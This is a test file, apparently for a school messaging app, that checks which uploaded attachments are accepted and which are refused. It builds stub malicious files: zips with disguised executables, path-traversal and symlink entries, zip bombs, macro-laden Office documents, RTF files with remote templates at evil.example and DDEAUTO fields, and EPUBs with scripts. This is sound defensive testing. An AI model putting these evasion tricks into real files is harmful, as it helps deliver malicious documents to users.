import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { FileView } from '../contract.ts';
import { makeCompound } from '../hostile/make-compound-trial.ts';
import { makeOffice, makeZip, type ZipPart } from '../hostile/make-zip-trial.ts';
import { picture } from '../test-kit.ts';
import { type Doors, startDoors } from '../tus-trial.ts';

// What a school lets in if it says so: looked into, and only ever saved.
let doors: Doors;
beforeAll(async () => {
  doors = await startDoors();
});
afterAll(() => doors?.server.stop());

const USUAL = ['image', 'video', 'audio', 'pdf', 'document', 'text'];
const allow = (...more: readonly string[]) =>
  doors.server.usePlugins('oakwood', { attachments: { types: [...USUAL, ...more] } });
beforeEach(() => allow('code', 'archive', 'book', 'legacy'));

const said = async (name: string, bytes: Uint8Array | string): Promise<[string | undefined, string | undefined]> => {
  const { code, message } = await doors.ana.upload(name, Buffer.from(bytes as string));
  return [code?.replace('attachments.', ''), message];
};

/** [MS-CFB] A stream as long as those of documents are. */
const stream = (name: string, ...parts: readonly Uint8Array[]) => {
  const data = Buffer.concat(parts);
  return { name, data: Buffer.concat([data, Buffer.alloc(Math.max(0, 4_096 - data.length))]) };
};
/** [MS-XLS] A record of a workbook. */
const record = (type: number, content: Uint8Array) => {
  const header = Buffer.alloc(4);
  header.writeUInt16LE(type, 0);
  header.writeUInt16LE(content.length, 2);
  return Buffer.concat([header, content]);
};
const sheet = (kind: number) => record(0x85, Buffer.from([0, 0, 0, 0, 0, kind, 1, 0, 65]));
const END = record(0x0a, Buffer.alloc(0));
/** [MS-PPT] A record of a presentation. */
const slideRecord = (type: number, instance: number, content: Uint8Array) => {
  const header = Buffer.alloc(8);
  header.writeUInt16LE(instance << 4, 0);
  header.writeUInt16LE(type, 2);
  header.writeUInt32LE(content.length, 4);
  return Buffer.concat([header, content]);
};
const packedObject = (object: Uint8Array) =>
  slideRecord(0x1011, 1, Buffer.concat([Buffer.alloc(4), deflateSync(object)]));

const DOC = makeCompound([stream('WordDocument'), stream('1Table')]);
const XLS = makeCompound([stream('Workbook', record(0x809, Buffer.alloc(16)), sheet(0), sheet(2), END)]);
const PPT = makeCompound([stream('PowerPoint Document', slideRecord(1_000, 0, Buffer.alloc(40)), packedObject(XLS))]);
const RTF = String.raw`{\rtf1\ansi{\fonttbl\f0 Times;}{\*\template C:\\Users\\Ana\\Normal.dotm}\pard Cells have {\b walls}. {\pict\pngblip 89504e47}\par}`;

const CHAPTER = `<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">\n<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Cells</title><link rel="stylesheet" href="../style.css"/></head><body><p>Cells &mdash; and walls &amp; more.&nbsp;<a href="https://example.org">Web</a> <img src="images/a.png" alt=""/></p></body></html>`;
const book = (...more: readonly ZipPart[]) =>
  makeZip([
    { name: 'mimetype', data: 'application/epub+zip', stored: true },
    { name: 'META-INF/container.xml', data: '<container/>' },
    { name: 'OEBPS/chapter 1.xhtml', data: CHAPTER },
    { name: 'OEBPS/toc.ncx', data: '<!DOCTYPE ncx PUBLIC "-//NISO//DTD ncx 2005-1//EN" "a.dtd"><ncx/>' },
    ...more,
  ]);

const PROJECT: readonly ZipPart[] = [
  { name: 'project/' },
  { name: 'project/Main.java', data: 'class Main {}' },
  { name: 'project/Main.class', data: Buffer.from('cafebabe00000041', 'hex') },
  { name: 'project/main.py', data: '#!/usr/bin/env python3\nprint(1)\n' },
  { name: 'project/index.html', data: '<!doctype html><p>Hello</p>' },
  { name: 'project/bbc.com/notes.txt', data: 'MZ is how a program begins' },
  { name: '__MACOSX/._project', data: Buffer.from('00051607000200004d616320', 'hex') },
];

describe('let in where a school says so, looked into, and only ever saved:', () => {
  const cases: readonly (readonly [
    name: string,
    kind: string,
    bytes: () => Uint8Array | string | Promise<Uint8Array>,
  ])[] = [
    ['main.py', 'code', () => 'print("Zellen")\n'],
    ['Main.java', 'code', () => 'class Main {}'],
    ['notebook.ipynb', 'code', () => '{"cells": []}'],
    ['index.html', 'code', () => '<!doctype html><script>alert(1)</script>'],
    ['logo.svg', 'code', () => '<svg onload="alert(1)"/>'],
    ['app.js', 'code', () => 'alert(1)'],
    ['utf16.py', 'code', () => Buffer.from('\ufeffprint(1)', 'utf16le')],
    ['essay.rtf', 'legacy', () => RTF],
    ['essay.doc', 'legacy', () => DOC],
    ['marks.xls', 'legacy', () => XLS],
    ['talk.ppt', 'legacy', () => PPT],
    ['cells.epub', 'book', () => book()],
    ['project.zip', 'archive', () => makeZip(PROJECT)],
    ['project.sb3', 'archive', () => makeZip([{ name: 'project.json', data: '{}' }])],
    ['with words behind.zip', 'archive', () => makeZip(PROJECT, { comment: 'Made by Ana' })],
    ['script.zip', 'archive', () => makeZip([{ name: 'app.js', data: 'alert(1)' }])],
    [
      'nested.zip',
      'archive',
      async () =>
        makeZip([
          { name: 'inner.zip', data: makeZip([{ name: 'essay.docx', data: makeOffice('docx') }]) },
          { name: 'old.doc', data: DOC },
          { name: 'photo.jpg', data: await picture(), stored: true },
          { name: 'a.rtf', data: RTF },
          { name: 'empty.txt', data: '' },
        ]),
    ],
  ];

  test.each(cases)('%s', async (name, kind, bytes) => {
    const { id, code } = await doors.ana.upload(name, Buffer.from((await bytes()) as string));
    expect(code).toBeUndefined();
    const sent = await doors.cast.send(doors.cast.room, doors.cast.ana, '', { with: { attachments: [{ id }] } });
    expect((sent.shows.attachments as FileView[])[0]).toMatchObject({ name, kind, state: 'ready' });
    const { headers } = await doors.ben.ask(`/files/${id}`);
    expect(headers.get('content-disposition')).toMatch(/^attachment;/);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('content-security-policy')).toBe("default-src 'none'; sandbox");
    expect(headers.get('content-type')).toMatch(/^(text\/plain|application\/)/);
  });

  test.each(['main.py', 'all.zip', 'essay.rtf', 'cells.epub', 'essay.doc', 'talk.ppt', 'marks.xls'])(
    '%s is refused where it does not',
    async (name) => {
      await allow();
      expect((await said(name, 'x'))[0]).toBe('not-offered');
    },
  );

  test('an old document under a new one’s ending is refused where old ones are', async () => {
    await allow();
    expect(await said('essay.docx', DOC)).toEqual([
      'not-offered',
      'Files of this kind cannot be sent here: .doc. Please send another kind, such as PDF or JPEG.',
    ]);
    await allow('legacy');
    expect(await said('essay.docx', DOC)).toEqual([
      'wrong-ending',
      'Inside, this file is a .doc. Please give its name that ending.',
    ]);
  });
});

describe('refused, with the name of what is wrong inside:', () => {
  const PROGRAM = Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(60)]);
  const inZip = (...parts: readonly ZipPart[]) => makeZip([{ name: 'a.txt', data: 'a' }, ...parts]);
  const deep = [1, 2, 3, 4].reduce(
    (inner, n) => makeZip([{ name: `${n}.zip`, data: inner }]),
    makeZip([{ name: 'a', data: 'a' }]),
  );

  test.each([
    ['a program', 'program-inside', inZip({ name: 'tools/setup.EXE', data: 'x' }), 'tools/setup.EXE'],
    ['a program under another name', 'program-inside', inZip({ name: 'cat.jpg', data: PROGRAM }), 'cat.jpg'],
    ['a batch', 'program-inside', inZip({ name: 'run.bat', data: 'del' }), 'run.bat'],
    [
      'a program of Java',
      'program-inside',
      inZip({ name: 'app.jar', data: makeZip([{ name: 'a', data: 'a' }]) }),
      'app.jar',
    ],
    ['macros', 'program-inside', inZip({ name: 'essay.docm', data: 'x' }), 'essay.docm'],
    ['a program behind blanks', 'program-inside', inZip({ name: 'a.pdf .scr ', data: 'x' }), 'a.pdf .scr'],
    [
      'a program in an archive in it',
      'program-inside',
      inZip({ name: 'inner.zip', data: inZip({ name: 'a.lnk', data: 'x' }) }),
      'inner.zip › a.lnk',
    ],
    [
      'macros in a document in it',
      'unsafe',
      inZip({ name: 'essay.docx', data: makeOffice('docx', [{ name: 'word/vbaProject.bin', data: 'x' }]) }),
      'essay.docx › word/vbaProject.bin',
    ],
    [
      'macros in an old document',
      'unsafe',
      inZip({ name: 'a.xls', data: makeCompound(['_VBA_PROJECT_CUR']) }),
      'a.xls',
    ],
    ['a rich text with an object', 'unsafe', inZip({ name: 'a.rtf', data: '{\\rtf1{\\object\\objdata 01}}' }), 'a.rtf'],
    ['a password', 'encrypted', inZip({ name: 'secret.txt', data: 'x', flags: 1 }), 'secret.txt'],
    ['a way out', 'unsafe', inZip({ name: '../../.bashrc', data: 'x' }), '../../.bashrc'],
    ['a link', 'unsafe', inZip({ name: 'link', data: '/etc/passwd', mode: 0o120777 }), 'link'],
    [
      'an archive of another kind',
      'sealed',
      inZip({ name: 'b.rar', data: Buffer.from('526172211a0700', 'hex') }),
      'b.rar',
    ],
    ['archives without end', 'sealed', deep, '4.zip › 3.zip › 2.zip › 1.zip'.split(' › ').slice(0, 4).join(' › ')],
  ])('%s', async (_what, code, bytes, entry) => {
    const [was, message] = await said('all.zip', bytes);
    expect(was).toBe(code);
    expect(message).toContain(entry);
  });

  test('a script that Windows runs, where a school takes archives and no code', async () => {
    await allow('archive');
    expect((await said('all.zip', inZip({ name: 'invoice.js', data: 'x' })))[0]).toBe('program-inside');
  });

  test.each([
    ['an archive that says it is small', inZip({ name: 'a.bin', data: Buffer.alloc(3_000_000), says: 10 })],
    ['an archive that says it is larger than it is', inZip({ name: 'a.bin', data: 'x', says: 1_000 })],
    ['a thousandfold archive', inZip({ name: 'a.bin', data: Buffer.alloc(60_000_000) })],
    ['files in the same bytes', inZip({ name: 'b.txt', data: 'x', shared: true })],
    [
      'small bombs in archives in it',
      inZip(
        ...[1, 2].map((n) => ({ name: `${n}.zip`, data: inZip({ name: 'a.bin', data: Buffer.alloc(60_000_000) }) })),
      ),
    ],
  ])('%s is a bomb', async (_what, bytes) => {
    expect((await said('all.zip', bytes))[0]).toBe('bomb');
  });

  test('archives in an archive share what may be unpacked in all', async () => {
    const half = Buffer.concat([randomBytes(1_000_000), Buffer.alloc(15_000_000)]);
    const inner = makeZip([{ name: 'a.bin', data: half }]);
    const parts = Array.from({ length: 40 }, (_, n) => ({ name: `${n}.zip`, data: inner, stored: true }));
    expect((await said('all.zip', makeZip(parts)))[0]).toBe('bomb');
  });

  test('a damaged archive, and one that has two ends, are damaged', async () => {
    const whole = makeZip(PROJECT);
    expect((await said('all.zip', whole.subarray(0, whole.length - 30)))[0]).toBe('unreadable');
    expect((await said('all.zip', makeZip(PROJECT, { comment: 'PK\x05\x06' })))[0]).toBe('unreadable');
    expect((await said('all.zip', 'Cells have walls.'))[0]).toBe('not-what-it-says');
  });
});

describe('old documents:', () => {
  test.each([
    ['macros', 'unsafe', 'a.doc', makeCompound([stream('WordDocument'), 'Macros', 'VBA', '_VBA_PROJECT'])],
    ['macros of a sheet', 'unsafe', 'a.xls', makeCompound([stream('Workbook', sheet(0), END), '_VBA_PROJECT_CUR'])],
    ['macros of Excel 4', 'unsafe', 'a.xls', makeCompound([stream('Workbook', sheet(0), sheet(1), END)])],
    [
      'macros of a presentation, packed',
      'unsafe',
      'a.ppt',
      makeCompound([stream('PowerPoint Document', packedObject(makeCompound(['VBA'])))]),
    ],
    [
      'macros of a presentation, within what says it is something else',
      'unsafe',
      'a.ppt',
      makeCompound([stream('PowerPoint Document', slideRecord(1_000, 0, packedObject(makeCompound(['VBA']))))]),
    ],
    [
      'a packed file',
      'unsafe',
      'a.doc',
      makeCompound([stream('WordDocument'), 'ObjectPool', stream('\u0001Ole10Native')]),
    ],
    [
      'the packager',
      'unsafe',
      'a.doc',
      makeCompound([stream('WordDocument'), { name: '_1', classId: '0c00030000000000c000000000000046' }]),
    ],
    ['a password of Excel', 'encrypted', 'a.xls', makeCompound([stream('Workbook', record(0x2f, Buffer.alloc(6)))])],
    [
      'a password of Word',
      'encrypted',
      'a.doc',
      makeCompound([stream('WordDocument', Buffer.alloc(11), Buffer.from([1]))]),
    ],
    [
      'a password of PowerPoint',
      'encrypted',
      'a.ppt',
      makeCompound([stream('PowerPoint Document'), 'EncryptedSummary']),
    ],
    ['a stream that stands among others', 'unreadable', 'a.xls', makeCompound([{ name: 'Workbook', data: sheet(1) }])],
    ['half of it', 'unreadable', 'a.doc', DOC.subarray(0, 1_100)],
    ['no document', 'unreadable', 'a.doc', makeCompound(['a'])],
    ['an object that is fetched', 'unsafe', 'a.rtf', '{\\rtf1{\\object\\objautlink\\objupdate x}}'],
    ['a template from elsewhere', 'unsafe', 'a.rtf', '{\\rtf1{\\*\\template https://evil.example/a.dotm}}'],
    ['a template of another machine', 'unsafe', 'a.rtf', '{\\rtf1{\\*\\template \\\\\\\\evil\\\\a.dotm}}'],
    ['a field that asks programs', 'unsafe', 'a.rtf', '{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\a}}}'],
    ['an object far in', 'unsafe', 'a.rtf', `{\\rtf1 ${'a'.repeat(65_530)}{\\object\\objdata 01}}`],
  ])('%s is refused', async (_what, code, name, bytes) => {
    expect((await said(name, bytes))[0]).toBe(code);
  });

  test('chains without end are followed for a while only', async () => {
    const looped = Buffer.from(XLS);
    for (let at = 512; at < 1_024; at += 4) looped.writeUInt32LE(1, at);
    const began = performance.now();
    expect((await said('a.xls', looped))[0]).toBe('unreadable');
    expect(performance.now() - began).toBeLessThan(20_000);
  });
});

describe('books:', () => {
  test.each([
    ['a script', 'unsafe', { name: 'OEBPS/a.xhtml', data: '<html><script>alert(1)</script></html>' }],
    ['a file of scripts', 'unsafe', { name: 'OEBPS/a.js', data: 'alert(1)' }],
    ['an event', 'unsafe', { name: 'OEBPS/a.html', data: '<html><p onclick="a()"/></html>' }],
    ['a link that scripts', 'unsafe', { name: 'OEBPS/a.html', data: '<html><a href="java&#10;script:a()"/></html>' }],
    ['a picture from elsewhere that is a frame', 'unsafe', { name: 'a.html', data: '<html><iframe src="a"/></html>' }],
    ['a drawing that scripts', 'unsafe', { name: 'OEBPS/a.svg', data: '<svg onload="a()"/>' }],
    ['a program', 'unsafe', { name: 'OEBPS/a.png', data: Buffer.from('7f454c4602010100', 'hex') }],
    ['an archive', 'unsafe', { name: 'OEBPS/a.bin', data: makeZip([{ name: 'a' }]) }],
    ['entities', 'unsafe', { name: 'OEBPS/a.opf', data: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }],
    ['a password', 'encrypted', { name: 'OEBPS/a.css', data: 'x', flags: 1 }],
  ] as readonly (readonly [string, string, ZipPart])[])('with %s is refused', async (_what, code, part) => {
    const [was, message] = await said('cells.epub', book(part));
    expect(was).toBe(code);
    expect(message).toContain(part.name);
  });
});

test('whatever was sent, nothing was logged that went wrong', () => {
  expect(doors.server.logged).toEqual([]);
});
